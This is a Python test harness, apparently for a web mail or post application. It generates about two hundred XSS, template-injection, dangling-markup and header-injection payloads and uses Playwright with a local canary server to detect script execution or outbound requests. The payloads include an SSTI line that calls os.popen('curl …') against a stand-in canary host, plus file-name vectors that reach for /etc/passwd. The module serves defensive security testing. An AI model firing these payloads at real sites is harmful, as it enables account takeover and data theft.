"""Two hundred ways in which post might run a script or reach out, and a watch that sees it when one does.

Each vector carries its number. One that runs logs `ranN` to the console; one that reaches out asks CANARY for `/N`.
Written out as templates: {n} is the number, {s}, {d} and {q} are the script in single quotes, in double quotes and
without any quote, {h} is the address.
"""

from __future__ import annotations

import re
import socket
import threading
from collections import Counter
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from playwright.sync_api import Browser, ConsoleMessage, Dialog, Frame, Page, Request, WebSocket

from connectors.browser import machine_browser

CANARY = "canary.invalid"

_REFUSED_BY_BROWSER = frozenset({"csp", "origin", "net::err_blocked_by_csp"})
"""How a request ends that a policy stopped; any other failure, such as no answer, means that it went out."""

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{s}</script>",
        "<SCRIPT>{s}</SCRIPT>",
        "<script src={h}></script>",
        "<script type=module>{s}</script>",
        "<script/x>{s}</script>",
        "<script\n>{s}</script\n>",
        "<script>{s}//",
        "<script>{s}</script foo=bar>",
        "<<script>{s}//<</script>",
        "<scr<script></script>ipt>{s}</script>",
        "<script src=data:text/javascript,{q}></script>",
        "<script type=text/javascript;version=1.8>0</script><script defer>{s}</script>",
        "<script nonce=''>{s}</script>",
        "<script async src='//canary.invalid/{n}'></script>",
        "<noscript><p title='</noscript><script>{d}</script>'>",
        "<script>import('{h}')</script>",
    ),
    "events": (
        "<img src=x onerror={q}>",
        '<img src=x onerror="{s}">',
        "<img src=x onerror='{d}'>",
        "<img/src=x/onerror={q}>",
        "<IMG SRC=x OnErRoR={q}>",
        "<img src=x onerror\n=\n{q}>",
        "<img src=x\x0conerror={q}>",
        "<img src='x' onerror=&#99;onsole.log(/ran{n}/.source)>",
        "<image src=x onerror={q}>",
        "<body onload={q}>",
        "<body onpageshow={q}>",
        "<body onhashchange={q}><a href=#x>go</a>",
        "<video src=x onerror={q}></video>",
        "<video><source src=x onerror={q}></video>",
        "<audio src=x onerror={q}></audio>",
        "<iframe onload={q}></iframe>",
        "<details open ontoggle={q}>",
        "<input autofocus onfocus={q}>",
        "<select autofocus onfocus={q}>",
        "<textarea autofocus onfocus={q}>",
        "<button autofocus onfocus={q}>b</button>",
        "<div tabindex=0 autofocus onfocus={q}>d</div>",
        "<p onmouseover={q}>point here</p>",
        "<p onclick={q}>press here</p>",
        "<div onpointerenter={q}>point here</div>",
        "<marquee onstart={q}>m</marquee>",
        "<object data=x: onerror={q}></object>",
        "<embed src=x: onload={q}>",
        "<link rel=stylesheet href=x onerror={q}>",
        "<style onload={q}></style>",
        "<track default onerror={q}>",
        "<audio controls oncanplay={q} "
        "src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAgD4AAAB9AAACABAAZGF0YQAAAAA=></audio>",
    ),
    "animation": (
        "<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={q}>a</p>",
        "<style>@keyframes x{{to{{color:red}}}}</style><p style='animation:x .1s' onanimationend={q}>a</p>",
        "<style>p:hover{{color:red}}</style><p style='transition:color .1s' ontransitionend={q} onmouseover={q}>t</p>",
        "<svg><animate onbegin={q} attributeName=x dur=1s></svg>",
    ),
    "svg-math": (
        "<svg onload={q}>",
        "<svg/onload={q}>",
        "<svg><script>{s}</script></svg>",
        "<svg><script>&#99;onsole.log('ran{n}')</script></svg>",
        "<svg><script href=data:text/javascript,{q} /></svg>",
        "<svg><script xlink:href='{h}'></script></svg>",
        "<svg><a xlink:href='javascript:{q}'><text y=20>press</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:{q} /><text y=20>press</text></a></svg>",
        "<svg><set attributeName=onmouseover to={q} onbegin={q}></set></svg>",
        "<svg><foreignObject><img src=x onerror={q}></foreignObject></svg>",
        "<svg><image href='{h}'></image></svg>",
        "<svg><use href='{h}#x'></use></svg>",
        "<svg><style>@import '{h}';</style></svg>",
        "<svg><feImage href='{h}'></feImage></svg>",
        "<svg><title><img src=x onerror={q}></title></svg>",
        "<svg><desc><iframe srcdoc='<script>{d}</script>'></iframe></desc></svg>",
        "<math><maction actiontype=statusline xlink:href='javascript:{q}'>press</maction></math>",
        "<math href='javascript:{q}'>press</math>",
        "<math><mtext><img src=x onerror={q}></mtext></math>",
        "<svg><animateTransform onbegin={q}></animateTransform></svg>",
    ),
    "addresses": (
        "<a href='javascript:{q}'>press</a>",
        "<a href='JaVaScRiPt:{q}'>press</a>",
        "<a href=' javascript:{q}'>press</a>",
        "<a href='java\tscript:{q}'>press</a>",
        "<a href='java\nscript:{q}'>press</a>",
        "<a href='\x01javascript:{q}'>press</a>",
        "<a href='&#106;avascript:{q}'>press</a>",
        "<a href='&#x6A&#x61vascript&colon;{q}'>press</a>",
        "<a href='javascript&Tab;:{q}'>press</a>",
        "<a href='javascript://%0a{q}'>press</a>",
        "<a href='data:text/html,<script>{d}</script>'>press</a>",
        "<a href='vbscript:{q}'>press</a>",
        "<area href='javascript:{q}' shape=default>",
        "<iframe src='javascript:{q}'></iframe>",
        "<iframe src='data:text/html,<script>{d}</script>'></iframe>",
        "<embed src='javascript:{q}'>",
        "<object data='javascript:{q}'></object>",
        "<img src='javascript:{q}'>",
        "<a href='#' ping='{h}'>press</a>",
        "<base href='javascript:/a/-{q}//'><a href=''>press</a>",
    ),
    "frames": (
        "<iframe srcdoc='<script>{d}</script>'></iframe>",
        '<iframe srcdoc="<img src=x onerror={q}>"></iframe>',
        "<iframe srcdoc='&lt;script&gt;{d}&lt;/script&gt;'></iframe>",
        "<iframe src='{h}'></iframe>",
        "<frameset><frame src='javascript:{q}'></frameset>",
        "<object data='{h}'></object>",
        "<embed src='{h}'>",
        "<object data='data:text/html,<script>{d}</script>' type=text/html></object>",
        "<object type=image/svg+xml data='data:image/svg+xml,<svg onload={q}>'></object>",
        "<applet code=x archive='{h}'></applet>",
        "<portal src='{h}'></portal>",
        "<fencedframe src='{h}'></fencedframe>",
    ),
    "head": (
        "<meta http-equiv=refresh content='0;url={h}'>",
        "<meta http-equiv=refresh content='0;url=javascript:{q}'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>{d}</script>'>",
        "<meta http-equiv=Set-Cookie content='x=ran{n}'><img src='{h}'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'><script src='{h}'></script>",
        "<base href='http://canary.invalid/'><img src='{n}'>",
        "<base href='http://canary.invalid/'><script src='{n}'></script>",
        "<link rel=stylesheet href='{h}'>",
        "<link rel=icon href='{h}'>",
        "<link rel=manifest href='{h}'>",
        "<link rel=import href='{h}'>",
        "<link rel=preload as=image href='{h}'>",
        "<link rel=modulepreload href='{h}'>",
        "<link rel=prefetch href='{h}'>",
        "<link rel=prerender href='{h}'>",
        "<link rel=preconnect href='{h}'>",
        "<link rel=dns-prefetch href='//{n}.canary.invalid'>",
        "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{h}\"]}}]}}</script>",
    ),
    "style": (
        "<style>@import '{h}';</style>",
        "<style>@import url({h});</style>",
        "<style>@import\n'{h}';</style>",
        "<style>body{{background:url({h})}}</style>",
        "<style>@font-face{{font-family:x;src:url({h})}}*{{font-family:x}}</style>text",
        "<style>p::before{{content:url({h})}}</style><p>p</p>",
        "<style>body{{background:u\\72l('{h}')}}</style>",
        "<p style='background:url({h})'>p</p>",
        "<p style=\"background-image:image-set('{h}' 1x)\">p</p>",
        "<p style='list-style:url({h});display:list-item'>p</p>",
        "<p style='cursor:url({h}),auto'>p</p>",
        "<p style='border-image:url({h}) 1'>p</p>",
        "<p style='mask-image:url({h})'>p</p>",
        "<p style='filter:url({h}#x)'>p</p>",
        "<p style='width:expression({q})'>p</p>",
        "<p style='-moz-binding:url({h}#x)'>p</p>",
        "<p style='behavior:url({h})'>p</p>",
        "<table background='{h}'><tr><td>t</table>",
        "<style><!--</style><script>{s}</script>-->",
        "<p style='--x:url({h});background:var(--x)'>p</p>",
    ),
    "templates": (
        "{{{{ '<script>'|safe }}}}{{{{ \"console.log(/ran{n}/.source)\"|safe }}}}{{{{ '</script>'|safe }}}}",
        "{{% autoescape false %}}{{{{ '<img src=x onerror={q}>' }}}}{{% endautoescape %}}",
        "{{{{ cycler.__init__.__globals__.os.popen('curl {h}').read() }}}}",
        "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}<img src=x onerror={q}>",
        "{{% include '{h}' %}}<script>{s}</script>",
        "${{{q}}}<svg onload={q}>",
        "#{{{q}}}<svg onload={q} x>",
        "<%= {q} %><script>{s}</script >",
        "{{{{constructor.constructor(\"{s}\")()}}}}<p ng-app>{{{{1}}}}</p><svg/onload={q} ng>",
        "{{{{request.application.__globals__}}}}<script>{s};0</script>",
    ),
    "confusion": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={q}&gt;'>",
        "<math><mtext><table><mglyph><style><math><img src=x onerror={q}></style></mglyph></table></mtext></math>",
        "<svg></p><style><a id='</style><img src=x onerror={q}>'>",
        "<svg><p><style><a title='</style><img src=x onerror={q}>'></p></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={q}></style></form>",
        "<noscript><style></noscript><img src=x onerror={q}></style>",
        "<style><style/><img src=x onerror={q}></style>",
        "<xmp><p title='</xmp><img src=x onerror={q}>'></xmp>",
        "<noembed><p title='</noembed><img src=x onerror={q}>'></noembed>",
        "<textarea><p title='</textarea><img src=x onerror={q}>'></textarea>",
        "<title><p title='</title><img src=x onerror={q}>'></title>",
        "<plaintext><p title='</plaintext><img src=x onerror={q}>'>",
        "<select><style></select><img src=x onerror={q}></style>",
        "<table><td><svg><desc><td><img src=x onerror={q}></td></desc></svg>",
        "<a><table><a href='javascript:{q}'>press</table></a>",
        "<svg><![CDATA[><img src=x onerror={q}>]]></svg>",
        "<!--><img src=x onerror={q}>-->",
        "<!--!><img src=x onerror={q}>--!>",
        "<![CDATA[<img src=x onerror={q}>]]>",
        "<?xml <img src=x onerror={q}>?>",
        "<template><img src=x onerror={q}></template><img src=x onerror={q}>",
        "<div><template shadowrootmode=open><img src=x onerror={q}></template></div>",
    ),
    "encoding": (
        "+ADw-script+AD4-console.log('ran{n}')+ADw-/script+AD4-<svg onload={q}>",
        "\ufeff<script>{s}</script>",
        "<scr\x00ipt>{s}</scr\x00ipt><script>{s}</script>",
        "<img src=x onerror=\u2028{q}>",
        "<img src=x onerror=\\u0063onsole.log(/ran{n}/.source)>",
        "&lt;script&gt;{s}&lt;/script&gt;<script>{s}</script>",
        "&#60;img src=x onerror={q}&#62;<svg onload={q}>",
        "%3Cscript%3E{s}%3C/script%3E<script>{s}</script>\t",
        "\u202e>tpircs/<{s}>tpircs<\u202c<script>{s}</script>",
        "<\u0000img src=x onerror={q}><img src=x onerror={q}>",
        "\uff1cscript\uff1e{s}\uff1c/script\uff1e<svg/onload={q}>\uff1e",
        "<script>\u2029{s}</script>",
    ),
    "breakouts": (
        '"><script>{s}</script>',
        "'><script>{d}</script>",
        '" autofocus tabindex=0 onfocus={q} x="<svg onload={q}>',
        "' autofocus tabindex=0 onfocus={q} x='<svg onload={q}>",
        " autofocus onfocus={q} <svg onload={q}>",
        "`><img src=x onerror={q}>",
        "</textarea><script>{s}</script>",
        "</title><script>{s}</script>",
        "</style><script>{s}</script>",
        "</script><script>{s}</script>",
        "--><script>{s}</script><!--",
        "</option></select><img src=x onerror={q}>",
        "';{q}//\";{q}//--></script><script>{s}</script>",
        "\\\"-{q}}}//<img src=x onerror={q}>",
        "</iframe><svg onload={q}>",
    ),
    "dangling": (
        "<img src='{h}?",
        '<img src="{h}?',
        "<a href='{h}?'><img src={h}>",
        "<textarea><img src={h}></textarea><img src='{h}",
        "<table background='{h}?",
        "<video poster='{h}'></video>",
        "<img srcset='{h} 1x'>",
        "<picture><source srcset='{h}'><img></picture>",
        "<input type=image src='{h}'>",
        "<audio src='{h}' autoplay></audio>",
    ),
    "forms": (
        "<form action='{h}'><button>press</button></form>",
        "<form action='javascript:{q}'><button>press</button></form>",
        "<form id=f{n}></form><button form=f{n} formaction='javascript:{q}'>press</button>",
        "<form><button formaction='{h}'>press</button></form>",
        "<form><input type=image formaction='{h}' src='{h}'></form>",
        "<form action='{h}' method=post><input type=submit value=press></form>",
        "<form action='{h}'><input name=password type=password autofocus onfocus={q}></form>",
        "<isindex action='javascript:{q}' type=image><svg onload={q} isindex>",
    ),
    "clobbering": (
        "<form id=document><input name=cookie></form><img src=x onerror={q} id=a>",
        "<a id=location href='javascript:{q}'>press</a>",
        "<img name=getElementById src='{h}'>",
        "<form name=body><input id=attributes></form><svg onload={q} id=b>",
        "<iframe name=alert srcdoc='<script>{d}//</script>'></iframe>",
    ),
    "names": (
        "../../../../etc/<script>{s}</script>.pdf",
        "..\\..\\<img src=x onerror={q}>.pdf",
        "letter\u202efdp.exe<svg onload={q}>",
        "a.pdf\r\nContent-Type: text/html\r\n\r\n<script>{s}</script>",
        "a.pdf\nSet-Cookie: postroom=ran{n}\n\n<svg onload={q}>",
        "a.pdf\";filename*=UTF-8''<script>{s}</script>",
        "a.pdf\x00.html<script>{s}</script>\x00",
        "javascript:{q}//<img src=x onerror={q}>.pdf",
        "file:///etc/passwd?<img src='{h}'>",
        "\\\\canary.invalid\\{n}\\a.pdf<img src='{h}'>",
        "<img src='{h}'>.tif",
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Vector:
    """One attempt."""

    number: int
    family: str
    text: str


def _vectors() -> tuple[Vector, ...]:
    found: list[Vector] = []
    for family, templates in FAMILIES.items():
        for template in templates:
            found.append(Vector(len(found), family, _filled(template, len(found))))
    return tuple(found)


def _filled(template: str, number: int) -> str:
    return template.format(
        n=number,
        s=f"console.log('ran{number}')",
        d=f'console.log("ran{number}")',
        q=f"console.log(/ran{number}/.source)",
        h=f"http://{CANARY}/{number}",
    )


VECTORS = _vectors()


def payload(number: int) -> str:
    """Return the text of a vector; numbers beyond the last begin again from the first."""
    return VECTORS[number % len(VECTORS)].text


@dataclass
class Watch:
    """What was seen on a page."""

    ran: set[int] = field(default_factory=set)
    asked: list[str] = field(default_factory=list)
    blocked: list[str] = field(default_factory=list)

    @property
    def left(self) -> list[str]:
        """Addresses outside the server that were asked for, without those that the browser itself refused to ask."""
        refused = Counter(self.blocked)
        return list((Counter(self.asked) - refused).elements())

    def findings(self) -> list[str]:
        """Return what went wrong, a line each; nothing if all held."""
        return [f"vector {number} ran: {payload(number)!r}" for number in sorted(self.ran)] + [
            f"asked for {address}" for address in self.left
        ]


def watch(page: Page, home: str) -> Watch:
    """Watch a page, its frames and what it opens, from now on.

    Args:
        home: Address of the server that may be asked, such as `http://127.0.0.1:8000`.
    """
    seen = Watch()
    host = urlsplit(home).netloc

    def failed(request: Request) -> None:
        if (request.failure or "").lower() in _REFUSED_BY_BROWSER:
            seen.blocked.append(request.url)

    def said(message: ConsoleMessage) -> None:
        seen.ran.update(int(number) for number in re.findall(r"^ran(\d+)$", message.text))

    def asked(request: Request | WebSocket) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in {"http", "https", "ws", "wss", "ftp"} and parts.netloc != host:
            seen.asked.append(request.url)

    def spoke(dialog: Dialog) -> None:
        seen.asked.append(f"a dialog: {dialog.type}")
        dialog.dismiss()

    page.on("console", said)
    page.on("request", asked)
    page.on("requestfailed", failed)
    page.on("websocket", asked)
    page.on("dialog", spoke)
    page.on("popup", lambda opened: seen.asked.append(f"a window: {opened.url}"))
    return seen


PROVOKE = """() => {
  for (const one of document.querySelectorAll('*')) {
    for (const kind of ['mouseover', 'pointerenter', 'focus'])
      one.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}));
    if (one.focus) one.focus();
    if (one.matches('a, area, button, summary, input, p, maction, math, text, animate') && one.isConnected)
      one.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  }
}"""


def provoke(frame: Page | Frame) -> None:
    """Point at everything in a frame, put the focus on it and press it, as a curious person would."""
    frame.evaluate(PROVOKE)


class Canary:
    """Takes the place of a host out in the world, and counts who knocks, also without saying what they want."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.asked: list[str] = []
        """The first line of each request; empty for a connection without one."""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        place = len(self.asked)
        self.asked.append("")
        with connection:
            connection.settimeout(3)
            try:
                # A slice, because the list may have been emptied meanwhile.
                self.asked[place : place + 1] = [connection.recv(2000).split(b"\r\n")[0].decode("latin-1")]
                connection.sendall(b"HTTP/1.1 204 None\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            except OSError:
                return

    def close(self) -> None:
        self._socket.close()


def browser_that_knocks(browser: Browser, canary: Canary) -> Browser:
    """Start a second browser that finds the canary under its name, so that not even a connection goes unseen."""
    program = machine_browser()
    rules = f"MAP {CANARY} 127.0.0.1:{canary.port}, MAP *.{CANARY} 127.0.0.1:{canary.port}"
    return browser.browser_type.launch(
        executable_path=str(program) if program else None,
        args=[f"--host-resolver-rules={rules}", "--disable-background-networking", "--disable-gpu"],
    )
